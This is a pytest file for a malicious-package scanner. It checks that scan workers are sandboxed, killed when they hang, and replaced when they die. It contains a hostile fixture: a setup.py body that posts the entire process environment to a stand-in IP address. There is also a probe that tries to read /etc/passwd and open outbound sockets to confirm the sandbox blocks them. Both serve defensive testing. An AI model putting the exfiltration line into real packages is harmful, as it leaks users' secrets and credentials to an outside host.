"""Scan workers are confined, killed when they hang, replaced when they die, and say so."""

from __future__ import annotations

import asyncio
import json
import os
import signal
import subprocess
import sys

import pytest

from pumpkin.adapters.scanner import Scanner
from pumpkin.analysis import static
from pumpkin.model.findings import Outcome
from tests.analysis.hostile import entry, tar_of

THIEF = (
    b"import os, urllib.request\nurllib.request.urlopen('http://198.51.100.7/', data=str(dict(os.environ)).encode())\n"
)
BAD = tar_of((entry("a-1/setup.py"), THIEF))
GOOD = tar_of((entry("a-1/a.py"), b"print('hello')\n"))

TRIES = """
import json, os, socket, subprocess, sys
from pumpkin.adapters.scanner.confine import confine
missing = confine()
def tried(what):
    try:
        what()
    except OSError as error:
        return type(error).__name__
    return "done"
print(json.dumps({
    "missing": missing,
    "read": tried(lambda: open("/etc/passwd").read()),
    "write": tried(lambda: open("/tmp/pumpkin-scan-escaped", "w")),
    "run": tried(lambda: subprocess.run(["/bin/true"])),
    "connect": tried(lambda: socket.create_connection(("127.0.0.1", 9), 1)),
    "datagram": tried(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("198.51.100.7", 9))),
    "memory": "done" if len(bytearray(1 << 20)) else "",
}))
"""


def test_a_confined_process_can_neither_read_nor_write_nor_run_nor_talk() -> None:
    ran = subprocess.run([sys.executable, "-c", TRIES], capture_output=True, check=True)
    seen = json.loads(ran.stdout)
    if seen["missing"]:
        assert not os.environ.get("CI"), f"this kernel: {seen['missing']}"
        pytest.skip(f"this kernel: {seen['missing']}")
    seen.pop("missing")
    assert "done" not in {key: value for key, value in seen.items() if key != "memory"}.values(), seen


async def test_a_worker_says_what_scan_says() -> None:
    async with Scanner() as scanner:
        scan = await scanner.scan(BAD, "a-1.tar.gz", "pypi")
        assert (scan.findings, scan.rules) == (static.scan(BAD, "a-1.tar.gz", "pypi").findings, static.ruleset())
        assert scan.verdict.outcome is Outcome.MALICIOUS


async def test_one_worker_serves_many() -> None:
    async with Scanner() as scanner:
        outcomes = [(await scanner.scan(data, "a.tar.gz")).verdict.outcome for data in (BAD, GOOD, BAD)]
        assert (outcomes, len(scanner.pids)) == ([Outcome.MALICIOUS, Outcome.CLEAN, Outcome.MALICIOUS], 1)


async def test_a_killed_worker_is_a_gap_and_is_replaced() -> None:
    async with Scanner() as scanner:
        await scanner.scan(GOOD, "a.tar.gz")
        os.kill(scanner.pids[0], signal.SIGSTOP)
        asked = asyncio.create_task(scanner.scan(GOOD, "a.tar.gz"))
        await asyncio.sleep(0)
        os.kill(scanner.pids[0], signal.SIGKILL)
        scan = await asked
        assert (scan.verdict.outcome, scan.gaps) == (Outcome.INCOMPLETE, ("static: the worker died",))
        assert (await scanner.scan(GOOD, "a.tar.gz")).verdict.outcome is Outcome.CLEAN


async def test_a_worker_that_hangs_is_killed() -> None:
    async with Scanner(timeout_s=0.5) as scanner:
        await scanner.scan(GOOD, "a.tar.gz")
        pid = scanner.pids[0]
        os.kill(pid, signal.SIGSTOP)
        scan = await scanner.scan(GOOD, "a.tar.gz")
        assert scan.verdict.outcome is Outcome.INCOMPLETE
        assert pid not in scanner.pids


async def test_no_worker_outlives_its_pool() -> None:
    async with Scanner(size=2) as scanner:
        await asyncio.gather(*(scanner.scan(GOOD, "a.tar.gz") for _ in range(2)))
        pids = scanner.pids
    assert [pid for pid in pids if os.path.exists(f"/proc/{pid}")] == []  # noqa: PTH110
